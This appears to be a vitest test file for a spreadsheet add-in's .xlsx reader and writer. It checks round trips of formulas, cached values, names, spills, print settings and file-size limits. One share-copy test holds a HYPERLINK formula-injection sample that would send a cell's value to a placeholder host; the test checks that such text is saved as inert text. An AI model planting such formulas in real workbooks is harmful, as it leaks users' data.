/**
 * .xlsx in and out: an estimate sheet saved with formulas and cached values, opened again with the same formulas,
 * values, roles, names and spills; saved and opened once more unchanged. The file spells the add-in's functions as
 * Excel does (`_xldudf_HEADROOM_…`), stores spills as Excel stores dynamic arrays, and forces no full calculation.
 */
import { beforeAll, describe, expect, test } from "vitest";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import * as functions from "../../src/functions/functions";
import { registerHeadroomFunctions } from "../../src/preview/plugin";
import { PreviewWorkbook } from "../../src/preview/workbook";
import { templateNames, templateSheet } from "../../src/preview/fromTemplate";
import { MAX_CELLS, countCells, readXlsx, writeXlsx } from "../../src/preview/xlsx";
import { bigXlsx } from "../../bench/bigFile";
import { isFormula, type WorkbookData } from "../../src/preview/model";
import type { UnitSystem } from "../../src/engine/units";
import { PreviewPort } from "../../src/preview/port";
import { demoScenario } from "../../src/workbook/scenario";
import { estimateTemplate } from "../../src/workbook/template";
import { generatedMetadata } from "./metadataFixture";
import { zipEntry } from "./zipEntry";

let known: string[];
beforeAll(async () => {
  const reg = registerHeadroomFunctions(await generatedMetadata(), functions);
  known = reg.functions.map((f) => f.formulaName);
});

function demoWorkbook(units: UnitSystem = "US"): PreviewWorkbook {
  const t = estimateTemplate(demoScenario(units));
  return new PreviewWorkbook({ sheets: [templateSheet(t)], names: templateNames(t) });
}

/** Formulas and values of every cell, for comparing two workbooks. */
function snapshot(data: WorkbookData) {
  return data.sheets.map((s) => ({
    name: s.name,
    cells: Object.fromEntries(
      Object.entries(s.cells).map(([a, c]) => [a, { content: c.content, cached: c.cached, spill: c.spill, role: c.style?.role, numFmt: c.style?.numFmt }]),
    ),
  }));
}

describe("round trip", () => {
  test("open → save → open gives the same formulas, values, roles, names and spills", async () => {
    const wb = demoWorkbook();
    wb.setTyped("Estimate", "B12", "80"); // an edit before saving
    const first = wb.toData();
    const bytes = await writeXlsx(first, known);
    const { workbook: opened } = await readXlsx(bytes, known);
    const reopened = new PreviewWorkbook(opened);
    const second = reopened.toData();
    expect(snapshot(second)).toEqual(snapshot(first));
    expect(second.names.sort((a, b) => a.name.localeCompare(b.name))).toEqual(first.names.sort((a, b) => a.name.localeCompare(b.name)));
    expect(second.sheets[0].columnWidths).toEqual(first.sheets[0].columnWidths);

    // and once more: saving what was opened changes nothing
    const { workbook: again } = await readXlsx(await writeXlsx(second, known), known);
    expect(snapshot(new PreviewWorkbook(again).toData())).toEqual(snapshot(second));
  });

  test("the workbook kept without its values (contentData) builds the same workbook again", () => {
    const wb = demoWorkbook();
    wb.setTyped("Estimate", "B12", "80");
    wb.setTyped("Estimate", "Z3", "'=1+1"); // text that looks like a formula
    const kept = wb.contentData();
    expect(Object.values(kept.sheets[0].cells).some((c) => c.cached !== undefined)).toBe(false);
    const again = new PreviewWorkbook(structuredClone(kept)).toData();
    const first = wb.toData();
    expect(snapshot(again)).toEqual(snapshot(first));
    expect(again.names).toEqual(first.names);
    expect(again.sheets[0].merges).toEqual(first.sheets[0].merges);
    expect(again.sheets[0].rowHeights).toEqual(first.sheets[0].rowHeights);
    expect(again.sheets[0].print).toEqual(first.sheets[0].print);
  });

  test("the cached values in the file are what the engine computed, before the engine sees the file again", async () => {
    const wb = demoWorkbook("SI");
    const data = wb.toData();
    const { workbook: opened } = await readXlsx(await writeXlsx(data, known), known);
    let compared = 0;
    for (const [address, cell] of Object.entries(opened.sheets[0].cells)) {
      if (cell.cached === undefined) continue;
      const engine = wb.value("Estimate", address);
      // a file keeps an error's code, not its message
      // and an empty text result reads back as no value (ExcelJS gives no result for an empty <v/>)
      const expected = engine !== null && typeof engine === "object" ? { error: engine.error } : engine === "" ? null : engine;
      expect(cell.cached, address).toEqual(expected);
      compared++;
    }
    expect(compared).toBeGreaterThan(30);
  });

  test("the file spells the add-in's functions as Excel does, spills as dynamic arrays, and leaves recalculation to Excel's own rule", async () => {
    const bytes = await writeXlsx(demoWorkbook().toData(), known);
    const x = new ExcelJS.Workbook();
    await x.xlsx.load(bytes as unknown as ArrayBuffer);
    const ws = x.getWorksheet("Estimate")!;
    const formulas: string[] = [];
    ws.eachRow((row) => row.eachCell((c) => c.formula && formulas.push(c.formula)));
    expect(formulas.some((f) => f.includes("_xldudf_HEADROOM_PIPEID("))).toBe(true);
    expect(formulas.some((f) => /HEADROOM\./.test(f))).toBe(false);
    // no forced full calculation, and no calculation-engine id: Excel takes a missing id as 0 and recalculates a file
    // last calculated by an earlier engine ([MS-OI29500] §2.1.565 c; ECMA-376 Part 1 §18.2.2, calcId)
    const calcPr = /<calcPr\b[^>]*>/.exec(zipEntry(bytes, "xl/workbook.xml"))?.[0];
    expect(calcPr).toBe("<calcPr/>");
    expect(x.definedNames.model.map((n: { name: string }) => n.name)).toContain("Supply_Static");
    // the PIPERUN anchor is an array formula over its block
    const runAnchor = Object.entries(demoWorkbook().toData().sheets[0].cells).find(([, c]) => String(c.content).includes("HEADROOM.PIPERUN("));
    expect(runAnchor).toBeDefined();
    const v = ws.getCell(runAnchor![0]).value as { shareType?: string; ref?: string };
    expect(runAnchor![1].spill).toBeDefined();
    expect(v.shareType).toBe("array");
    expect(v.ref).toBe(runAnchor![1].spill);
    // ... marked as a dynamic array, as Excel marks one: cm="1", the first block of the cell metadata, which points
    // at the XLDAPR type's dynamic-array properties (fDynamic="1")
    const sheetXml = zipEntry(bytes, "xl/worksheets/sheet1.xml");
    const anchorCell = new RegExp(`<c r="${runAnchor![0]}"[^>]*>`).exec(sheetXml)?.[0];
    expect(anchorCell).toMatch(/ cm="1"/);
    const arrayCells = [...sheetXml.matchAll(/<c [^>]*>(?=<f t="array")/g)].map((m) => m[0]);
    const spills = Object.values(demoWorkbook().toData().sheets[0].cells).filter((c) => c.spill).length;
    expect(arrayCells.length).toBe(spills);
    for (const c of arrayCells) expect(c).toMatch(/ cm="1"/);
    expect([...sheetXml.matchAll(/ cm="/g)].length).toBe(spills); // no other cell carries cell metadata
    const metadata = zipEntry(bytes, "xl/metadata.xml");
    expect(metadata).toMatch(/<metadataType name="XLDAPR"[^>]* cellMeta="1"/);
    expect(metadata).toContain(
      '<futureMetadata name="XLDAPR" count="1"><bk><extLst><ext uri="{bdbb8cdc-fa1e-496e-a857-3c3f30c029c3}"><xda:dynamicArrayProperties fDynamic="1" fCollapsed="0"/>',
    );
    expect(metadata).toContain('<cellMetadata count="1"><bk><rc t="1" v="0"/></bk></cellMetadata>');
    expect(zipEntry(bytes, "[Content_Types].xml")).toContain(
      '<Override PartName="/xl/metadata.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheetMetadata+xml"/>',
    );
    expect(zipEntry(bytes, "xl/_rels/workbook.xml.rels")).toMatch(
      /<Relationship Id="rId\d+" Type="http:\/\/schemas.openxmlformats.org\/officeDocument\/2006\/relationships\/sheetMetadata" Target="metadata.xml"\/>/,
    );
    // an input keeps its shade: the template's input fill
    const fill = ws.getCell("B9").fill as { fgColor?: { argb?: string } }; // the Units cell
    expect(x.definedNames.model.find((n: { name: string }) => n.name === "Units")?.ranges).toEqual(["Estimate!$B$9"]);
    expect(fill.fgColor?.argb).toBe("FFFFF2B3");
  });

  test("the estimate sheet keeps its print area, title rows and one-page fit in the file, and reads them back", async () => {
    const t = estimateTemplate(demoScenario("US"));
    const data = demoWorkbook().toData();
    expect(data.sheets[0].print).toEqual(t.print);
    const bytes = await writeXlsx(data, known);
    const x = new ExcelJS.Workbook();
    await x.xlsx.load(bytes as unknown as ArrayBuffer);
    const setup = x.getWorksheet("Estimate")!.pageSetup;
    expect({
      printArea: setup.printArea,
      printTitlesRow: setup.printTitlesRow,
      fitToPage: setup.fitToPage,
      fitToWidth: setup.fitToWidth,
      fitToHeight: setup.fitToHeight,
      orientation: setup.orientation,
    }).toEqual({ printArea: t.print.area, printTitlesRow: t.print.titleRows, fitToPage: true, fitToWidth: 1, fitToHeight: 1, orientation: "portrait" });
    // the area as Excel writes one: a name of the sheet, absolute references
    const [from, to] = t.print.area.split(":").map((a) => a.replace(/^([A-Z]+)(\d+)$/, "$$$1$$$2"));
    expect(zipEntry(bytes, "xl/workbook.xml")).toContain(
      `<definedName name="_xlnm.Print_Area" localSheetId="0">&apos;Estimate&apos;!${from}:${to}</definedName>`,
    );
    const { workbook: opened } = await readXlsx(bytes, known);
    expect(opened.sheets[0].print).toEqual(t.print);
    expect(new PreviewWorkbook(opened).toData().sheets[0].print).toEqual(t.print);
  });

  test("a text cell beginning with \"=\" opens as text and is saved again as text; a formula stays a formula", async () => {
    const x = new ExcelJS.Workbook();
    const ws = x.addWorksheet("S");
    ws.getCell("A1").value = "=1+1";
    ws.getCell("A2").value = { formula: "1+1", result: 2 } as ExcelJS.CellValue;
    ws.getCell("A3").value = "'quoted";
    const { workbook } = await readXlsx(new Uint8Array((await x.xlsx.writeBuffer()) as ArrayBuffer), known);
    const wb = new PreviewWorkbook(workbook);
    expect(wb.value("S", "A1")).toBe("=1+1");
    expect(wb.value("S", "A2")).toBe(2);
    expect(wb.value("S", "A3")).toBe("'quoted");
    const again = new ExcelJS.Workbook();
    await again.xlsx.load((await writeXlsx(wb.toData(), known)) as unknown as ArrayBuffer);
    const s = again.getWorksheet("S")!;
    expect(s.getCell("A1").formula).toBeUndefined();
    expect(s.getCell("A1").value).toBe("=1+1");
    expect(s.getCell("A2").formula).toBe("1+1");
    expect(s.getCell("A3").value).toBe("'quoted");
  });

  test("a share copy writes text beginning with \"=\" as text: the file holds no formula, ever", async () => {
    const wb = demoWorkbook();
    const link = '=HYPERLINK("http://example.invalid/?d="&B19,"x")';
    wb.setTyped("Estimate", "H5", `'${link}`);
    expect(wb.value("Estimate", "H5")).toBe(link);
    const made = new PreviewPort(wb, () => new Date(2026, 4, 4)).shareCopyData();
    if (!made.ok) throw new Error(made.reason);
    const at = Object.entries(made.sheet.cells).find(([, c]) => c.cached === link || c.content === link || c.content === `'${link}`);
    expect(at, "the share copy keeps the text").toBeDefined();
    expect(Object.values(made.sheet.cells).filter((c) => isFormula(c.content))).toEqual([]);
    const x = new ExcelJS.Workbook();
    await x.xlsx.load((await writeXlsx({ sheets: [made.sheet], names: [] }, known)) as unknown as ArrayBuffer);
    let formulas = 0;
    x.worksheets[0].eachRow((row) => row.eachCell((c) => void (c.formula && formulas++)));
    expect(formulas).toBe(0);
    expect(x.worksheets[0].getCell(at![0]).value).toBe(link);
  });

  test("a share copy saved alone holds values only, with the stamp", async () => {
    const wb = demoWorkbook();
    const port = new PreviewPort(wb, () => new Date(2026, 4, 4));
    const made = port.shareCopyData();
    if (!made.ok) {
      // the demo sheet still shows an error somewhere (a function not written yet): the refusal names it
      expect(made.reason).toMatch(/No share copy made: [A-Z]+\d+ shows #/);
      return;
    }
    const bytes = await writeXlsx({ sheets: [made.sheet], names: [] }, known);
    const x = new ExcelJS.Workbook();
    await x.xlsx.load(bytes as unknown as ArrayBuffer);
    const ws = x.worksheets[0];
    let formulas = 0;
    ws.eachRow((row) => row.eachCell((c) => void (c.formula && formulas++)));
    expect(formulas).toBe(0);
    expect(String(ws.getCell("A1").value)).toBe(
      "Share copy of Estimate, 2026-05-04: values frozen; recalculation needs the Headroom add-in.",
    );
  });
});

describe("names Excel accepts and the engine would read as cell references", () => {
  test("a file with Flow1 defined and used: the formula computes, and saved and opened again the name is Flow1 and the formula reads Flow1", async () => {
    // a file as Excel writes it: Flow1 is a name there (column FLOW lies beyond XFD, Excel's last; from memory)
    const x = new ExcelJS.Workbook();
    const ws = x.addWorksheet("Estimate");
    ws.getCell("B1").value = 1250;
    ws.getCell("B2").value = 65;
    ws.getCell("B3").value = { formula: "Flow1*2", result: 2500 } as ExcelJS.CellValue;
    ws.getCell("B4").value = { formula: "Pump1+Area2", result: 66 } as ExcelJS.CellValue;
    ws.getCell("B5").value = 1;
    x.definedNames.add("Estimate!$B$1", "Flow1");
    x.definedNames.add("Estimate!$B$2", "Pump1");
    x.definedNames.add("Estimate!$B$5", "Area2");
    const file = new Uint8Array((await x.xlsx.writeBuffer()) as ArrayBuffer);

    const { workbook } = await readXlsx(file, known);
    const wb = new PreviewWorkbook(workbook);
    expect(wb.value("Estimate", "B3")).toBe(2500); // 1250 × 2 (hand arithmetic)
    expect(wb.value("Estimate", "B4")).toBe(66); // 65 + 1 (hand arithmetic)
    wb.setTyped("Estimate", "B1", "1000");
    expect(wb.value("Estimate", "B3")).toBe(2000); // 1000 × 2 (hand arithmetic)

    const saved = await writeXlsx(wb.toData(), known);
    const back = new ExcelJS.Workbook();
    await back.xlsx.load(saved as unknown as ArrayBuffer);
    expect(back.definedNames.model.map((n: { name: string }) => n.name).sort()).toEqual(["Area2", "Flow1", "Pump1"]);
    expect(back.getWorksheet("Estimate")!.getCell("B3").formula).toBe("Flow1*2");
    expect(back.getWorksheet("Estimate")!.getCell("B3").result).toBe(2000);
    expect(back.getWorksheet("Estimate")!.getCell("B4").formula).toBe("Pump1+Area2");
    expect(zipEntry(saved, "xl/workbook.xml")).toContain('<definedName name="Flow1">Estimate!$B$1</definedName>');

    const reopened = new PreviewWorkbook((await readXlsx(saved, known)).workbook);
    expect(reopened.content("Estimate", "B3")).toBe("=Flow1*2");
    expect(reopened.value("Estimate", "B3")).toBe(2000);
  });
});

describe("names the preview cannot keep", () => {
  test("a name for a constant, a formula or one sheet is left out and said so, never changed into another", async () => {
    const x = new ExcelJS.Workbook();
    x.addWorksheet("Estimate").getCell("B2").value = 3;
    x.definedNames.add("Estimate!$B$2", "Flow1");
    const zip = await JSZip.loadAsync((await x.xlsx.writeBuffer()) as ArrayBuffer);
    const xml = (await zip.file("xl/workbook.xml")!.async("string")).replace(
      "</definedNames>",
      '<definedName name="Rate">0.05</definedName><definedName name="Twice">Estimate!$B$2*2</definedName>' +
        '<definedName name="Local1" localSheetId="0">Estimate!$B$2</definedName></definedNames>',
    );
    zip.file("xl/workbook.xml", xml);
    const { workbook, notes } = await readXlsx(await zip.generateAsync({ type: "uint8array" }), known);
    expect(workbook.names).toEqual([{ name: "Flow1", ref: "Estimate!$B$2" }]);
    expect(notes).toEqual(
      expect.arrayContaining([
        "name Twice refers to Estimate!$B$2*2; the preview keeps names of cells only, so it is left out",
        "name Local1 belongs to one sheet; the preview keeps the workbook's names only, so it is left out",
        "name Rate refers to 0.05; the preview keeps names of cells only, so it is left out",
      ]),
    );
    expect(notes).toHaveLength(3);
  });
});

describe("a file too large for the preview", () => {
  test("its cells are counted in the file before anything is parsed: every <c> of every worksheet", async () => {
    const x = new ExcelJS.Workbook();
    const a = x.addWorksheet("Estimate");
    a.getCell("A1").value = 1;
    a.getCell("B2").value = "two";
    a.getCell("C3").value = { formula: "A1*3", result: 3 };
    x.addWorksheet("Runs").getCell("D40").value = 4;
    const bytes = new Uint8Array((await x.xlsx.writeBuffer()) as ArrayBuffer);
    // 3 cells on one sheet and 1 on the other, as written above
    expect(await countCells(bytes)).toBe(4);
    // a prefixed <x:c> counts too (an empty one included); <col>, <cols>, <cfRule> and parts outside xl/worksheets do not
    const zip = new JSZip();
    zip.file(
      "xl/worksheets/sheet1.xml",
      '<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:cols><x:col min="1" max="1"/></x:cols>' +
        '<x:sheetData><x:row r="1"><x:c r="A1"><x:v>1</x:v></x:c><x:c r="B1"/></x:row></x:sheetData>' +
        '<x:conditionalFormatting sqref="A1"><x:cfRule type="expression"/></x:conditionalFormatting></x:worksheet>',
    );
    zip.file("xl/sharedStrings.xml", '<sst><si><t>not a cell</t></si><c r="Z9"/></sst>');
    expect(await countCells(await zip.generateAsync({ type: "uint8array" }))).toBe(2);
  });

  test("a file of more cells than the limit is refused, naming both counts; one at the limit opens", async () => {
    // 4 rows × 3 columns = 12 cells
    const bytes = await bigXlsx(4, 3);
    await expect(readXlsx(bytes, known, { maxCells: 11 })).rejects.toThrow(
      "it holds 12 cells; the preview opens files of at most 11 cells (Excel with the Headroom add-in opens it)",
    );
    const { workbook } = await readXlsx(bytes, known, { maxCells: 12 });
    expect(Object.keys(workbook.sheets[0].cells)).toHaveLength(12);
  });

  test("the preview's own limit refuses a file one row past it, before ExcelJS parses it", async () => {
    const cols = 20;
    const rows = MAX_CELLS / cols + 1;
    await expect(readXlsx(await bigXlsx(rows, cols), known)).rejects.toThrow(
      `it holds ${(rows * cols).toLocaleString("en-US")} cells; the preview opens files of at most ${MAX_CELLS.toLocaleString("en-US")} cells`,
    );
  });
});

describe("defined names of every kind, written as the preview holds them", () => {
  /** The file's <definedName> elements, name → text (XML entities undone). */
  function definedNames(bytes: Uint8Array): Record<string, string> {
    const xml = zipEntry(bytes, "xl/workbook.xml");
    const unescape = (x: string) => x.replace(/&(lt|gt|quot|apos|amp);/g, (_m, e: string) => ({ lt: "<", gt: ">", quot: '"', apos: "'", amp: "&" })[e]!);
    return Object.fromEntries([...xml.matchAll(/<definedName name="([^"]*)"[^>]*>([^<]*)<\/definedName>/g)].map((m) => [unescape(m[1]), unescape(m[2])]));
  }

  test("a constant, a formula and text come back exactly as written, beside the names of cells", async () => {
    const wb = demoWorkbook();
    wb.setName("Rule_Margin", "10");
    wb.setName("Twice_Static", "=Estimate!$B$13*2");
    wb.setName("Rule_Units", '="SI"');
    wb.setName("Rule_Friction", "=HEADROOM.FRICTION(500,4.026,120)*2");
    const held = Object.fromEntries(wb.names().map((n) => [n.name, n.ref]));
    expect(held.Rule_Margin).toBe("10");
    expect(held.Twice_Static).toBe("Estimate!$B$13*2");
    const bytes = await writeXlsx(wb.toData(), known, { date: new Date(Date.UTC(2026, 0, 1)) });
    const written = definedNames(bytes);
    expect(written.Rule_Margin).toBe("10");
    expect(written.Twice_Static).toBe("Estimate!$B$13*2");
    expect(written.Rule_Units).toBe('"SI"');
    // the add-in's function as Excel stores it in a file
    expect(written.Rule_Friction).toBe("_xldudf_HEADROOM_FRICTION(500,4.026,120)*2");
    expect(written.Supply_Static).toBe(held.Supply_Static);
    // opened again: the names of cells as they were; the others, kept out by the reader, are named with their own text
    const back = await readXlsx(bytes, known);
    expect(back.workbook.names).toEqual(wb.names().filter((n) => !n.name.startsWith("Rule_") && n.name !== "Twice_Static"));
    expect(back.notes).toContain("name Rule_Margin refers to 10; the preview keeps names of cells only, so it is left out");
    expect(back.notes).toContain("name Twice_Static refers to Estimate!$B$13*2; the preview keeps names of cells only, so it is left out");
    // Excel opens it with its workbook part well formed: one <definedNames>, after <sheets>
    const xml = zipEntry(bytes, "xl/workbook.xml");
    expect(xml.match(/<definedNames>/g)).toHaveLength(1);
    expect(xml.indexOf("</sheets>")).toBeLessThan(xml.indexOf("<definedNames>"));
  });

  test("a workbook whose only names are constants still gets them", async () => {
    const wb = new PreviewWorkbook({ sheets: [{ name: "Notes", cells: { A1: { content: 1 } } }], names: [] });
    wb.setName("Rule_Margin", "10");
    const bytes = await writeXlsx(wb.toData(), known);
    expect(definedNames(bytes)).toEqual({ Rule_Margin: "10" });
    const xml = zipEntry(bytes, "xl/workbook.xml");
    expect(xml.indexOf("</sheets>")).toBeLessThan(xml.indexOf("<definedNames>"));
  });
});
